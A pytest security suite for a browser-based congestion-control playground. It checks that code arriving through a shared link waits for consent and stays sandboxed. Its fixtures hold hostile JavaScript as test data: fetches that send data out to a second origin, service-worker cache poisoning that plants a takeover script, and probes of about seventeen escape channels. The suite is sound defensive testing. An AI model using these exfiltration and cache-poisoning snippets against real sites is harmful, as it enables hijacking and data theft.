"""Code that a link brings to the playground runs only if allowed, and reaches only its run."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from browser import Browser
from playing import AIMD, DIGEST, NEEDED, native, put, share
from serving import Server

pytestmark = NEEDED
TEXT = """name = "linked"
[path]
rate = "10mbit"
rtt = "20ms"
buffer = "1bdp"
[[flows]]
cca = "mine"
[run]
duration = "2s"
"""
RENO = TEXT.replace('"mine"', '"reno"')
RUN = {"do": "run", "text": TEXT, "own": "mine", "tables": []}
ASKED = "!document.getElementById('consent').hidden"
PROBLEMS = "document.getElementById('problems').textContent"
TAKEOVER = "window.taken = true; document.title = 'taken'"
ATTACK = f"""(() => {{
  fetch("leak-1").catch(() => {{}});
  fetch("OTHER/leak-2", {{ mode: "no-cors" }}).catch(() => {{}});
  try {{
    caches.keys().then((names) => names.forEach((name) => caches.open(name).then((cache) =>
      cache.put("HERE/app.js", new Response({json.dumps(TAKEOVER)}))))).catch(() => {{}});
  }} catch {{}}
  return {AIMD};
}})()"""
KEPT = """(async () => {
  const found = {};
  for (const name of await caches.keys()) {
    const cache = await caches.open(name);
    for (const one of await cache.keys()) found[one.url] = await (await cache.match(one)).text();
  }
  return found;
})()"""
PROBES = """(() => {
  const failed = (make) => new Promise((resolve, reject) => {
    const one = make();
    one.onerror = (event) => { event.preventDefault?.(); reject(); };
    one.onopen = one.onmessage = one.onload = one.onsuccess = resolve;
  });
  const text = (code) => URL.createObjectURL(new Blob([code], { type: "text/javascript" }));
  const inner = () => new Promise((resolve, reject) => {
    const code = 'fetch("HERE/leak").then(() => postMessage(1), () => postMessage(0))';
    new Worker(text(code)).onmessage = ({ data }) => (data ? resolve() : reject());
  });
  const probes = {
    fetch: () => fetch("HERE/leak"),
    other: () => fetch("OTHER/leak", { mode: "no-cors" }),
    beacon: () => fetch("HERE/leak", { method: "POST", keepalive: true, mode: "no-cors" }),
    request: () => {
      const one = new XMLHttpRequest();
      one.open("GET", "HERE/leak", false);
      one.send();
    },
    socket: () => failed(() => new WebSocket("HERE/leak".replace("http", "ws"))),
    events: () => failed(() => new EventSource("HERE/leak")),
    module: () => import("HERE/leak"),
    script: () => importScripts("HERE/leak"),
    made: () => importScripts(text("1")),
    function: () => new Function("return 1")(),
    worker: () => failed(() => new Worker("HERE/worker.js")),
    inner,
    font: () => new FontFace("x", 'url("HERE/leak")').load(),
    caches: () => caches.open("x"),
    database: () => failed(() => indexedDB.open("x")),
    files: () => navigator.storage.getDirectory(),
    locks: () => navigator.locks.request("x", () => 1),
  };
  self.found ??= Promise.all(Object.entries(probes).map(async ([name, probe]) => {
    try { await probe(); return [name, "done"]; } catch (error) { return [name, "refused"]; }
  })).then((all) => { self.finished = { ...Object.fromEntries(all), origin: self.origin }; });
  const channel = new BroadcastChannel("narrows");
  channel.postMessage("leak");
  return class {
    constructor() { if (self.finished) throw new Error(JSON.stringify(self.finished)); }
    on_ack() {} on_congestion() {} control() { return 10; }
  };
})()"""


@pytest.fixture
def other(tmp_path: Path) -> Iterator[Server]:
    """A server of another origin."""
    found = Server(tmp_path)
    yield found
    found.stop()


@pytest.fixture
def browser(tmp_path: Path) -> Iterator[Browser]:
    with Browser(tmp_path / "profile") as found:
        yield found


def visit(browser: Browser, server: Server, address: str = "") -> None:
    """Loads the page anew, whatever it shows."""
    browser.visit("about:blank")
    browser.visit(server.address + address)


def aim(code: str, server: Server, other: Server) -> str:
    return code.replace("HERE/", server.address).replace("OTHER/", other.address)


def leaks(*servers: Server) -> list[str]:
    return [path for server in servers for path in server.asked if "leak" in path]


def ready(browser: Browser, server: Server) -> Any:
    """Visits the page until its service worker has filled the cache; returns what is in there."""
    visit(browser, server)
    browser.wait(f"!!{DIGEST}")
    browser.value("navigator.serviceWorker.ready.then(() => true)")
    return browser.value(KEPT)


def test_a_links_code_is_shown_and_waits(browser: Browser, server: Server, other: Server) -> None:
    kept = ready(browser, server)
    source = aim(ATTACK, server, other)
    visit(browser, server, share(TEXT, source))
    browser.wait(ASKED)
    assert browser.value("document.getElementById('foreign').textContent") == source
    put(browser, "source", source + "\n// edited")
    put(browser, "text", TEXT + "\n# edited")
    browser.wait("document.getElementById('foreign').textContent.endsWith('// edited')")
    browser.value("document.getElementById('packets').open = true")
    put(browser, "text", RENO)
    browser.wait(f"{DIGEST} === {json.dumps(native(RENO))}")
    assert browser.value(f"!({ASKED})")
    assert leaks(server, other) == []
    assert browser.value(KEPT) == kept
    assert browser.said == []


def test_allowed_code_runs_and_takes_nothing_over(
    browser: Browser, server: Server, other: Server
) -> None:
    kept = ready(browser, server)
    visit(browser, server, share(TEXT, AIMD))
    browser.wait(ASKED)
    browser.value("document.getElementById('allow').click()")
    browser.wait(f"!!{DIGEST}")
    digest = browser.value(DIGEST)
    visit(browser, server, share(TEXT, aim(ATTACK, server, other)))
    browser.wait(ASKED)
    browser.value("document.getElementById('allow').click()")
    browser.wait(f"{DIGEST} === {json.dumps(digest)}")
    assert leaks(server, other) == []
    assert browser.value(KEPT) == kept
    visit(browser, server)
    browser.wait(f"!!{DIGEST}")
    assert browser.value("window.taken ?? document.title").startswith("narrows")


def test_code_reaches_neither_origin_nor_network(
    browser: Browser, server: Server, other: Server
) -> None:
    visit(browser, server)
    browser.wait(f"!!{DIGEST}")
    source = json.dumps(aim(PROBES, server, other))
    found = browser.value(
        "(async () => {"
        " const { Engine } = await import('./engine.js'); const engine = new Engine();"
        " new BroadcastChannel('narrows').onmessage = () => { window.heard = true; };"
        f" const run = () => engine.run('x', {json.dumps(RUN)}, {{ source: {source} }});"
        " let said = await run(); while (!said.problems) said = await run();"
        " return said.problems[0].text; })()"
    )
    probes = json.loads(found[found.index("{") :])
    assert probes.pop("origin") == "null"
    assert len(probes) == 17
    assert {name for name, said in probes.items() if said != "refused"} == set()
    assert leaks(server, other) == []
    assert not browser.value("window.heard")


def test_code_that_loops_is_ended_by_the_next_run(browser: Browser, server: Server) -> None:
    loop = AIMD.replace("control() {", "control() { while (true);")
    visit(browser, server, share(TEXT, loop))
    browser.wait(ASKED)
    browser.value("document.getElementById('allow').click()")
    browser.wait("document.querySelectorAll('iframe').length === 1")
    put(browser, "text", RENO)
    browser.wait(f"{DIGEST} === {json.dumps(native(RENO))}")
    assert browser.value("document.querySelectorAll('iframe').length") == 0
    put(browser, "source", AIMD)
    put(browser, "text", TEXT)
    browser.wait(f"{DIGEST} !== {json.dumps(native(RENO))}")


def test_a_syntax_error_has_its_line(browser: Browser, server: Server) -> None:
    visit(browser, server)
    browser.wait(f"!!{DIGEST}")
    put(browser, "source", AIMD.replace("on_ack(sample) {", "on_ack(sample {"))
    put(browser, "text", TEXT)
    browser.wait(f"{PROBLEMS}.includes('the control, line 3: ')")


def test_an_edited_cache_is_not_served(browser: Browser, server: Server) -> None:
    ready(browser, server)
    edit = """(async () => {
      const put = (cache, url, text, type) =>
        cache.put(url, new Response(text, { headers: { "Content-Type": type } }));
      for (const name of await caches.keys()) {
        const cache = await caches.open(name);
        for (const { url } of await cache.keys()) {
          if (url.endsWith(".js")) await put(cache, url, TAKEOVER, "text/javascript");
          if (/(html|\\/)$/.test(url))
            await put(cache, url, `<script>${TAKEOVER}</script>`, "text/html");
        }
      }
      return true;
    })()"""
    browser.value(edit.replace("TAKEOVER", json.dumps(TAKEOVER)))
    visit(browser, server)
    browser.wait(f"!!{DIGEST}")
    assert browser.value("navigator.serviceWorker.controller !== null")
    assert browser.value("window.taken ?? document.title").startswith("narrows")


def test_a_cache_of_another_program_stays(browser: Browser, server: Server) -> None:
    browser.visit(server.address + "style.css")
    browser.value("caches.open('another').then(() => true)")
    ready(browser, server)
    names = browser.value("caches.keys()")
    assert "another" in names
    assert len(names) == 2


def test_a_control_needs_no_network(browser: Browser, server: Server) -> None:
    ready(browser, server)
    server.stop()
    visit(browser, server, share(TEXT, AIMD))
    browser.wait(ASKED)
    browser.value("document.getElementById('allow').click()")
    browser.wait(f"!!{DIGEST}")
    assert browser.said == []


@pytest.mark.parametrize("address", ["", "lessons/turns.html"])
def test_a_page_runs_no_script_but_its_own_files(
    address: str, browser: Browser, server: Server, other: Server
) -> None:
    visit(browser, server, address)
    browser.value(
        "(script => { script.textContent = 'window.taken = true'; document.body.append(script); })"
        "(document.createElement('script'))"
    )
    refused = browser.value(
        f"fetch({json.dumps(other.address + 'leak')}, {{ mode: 'no-cors' }})"
        ".then(() => false, () => true)"
    )
    assert refused
    assert not browser.value("window.taken")
    assert leaks(other) == []
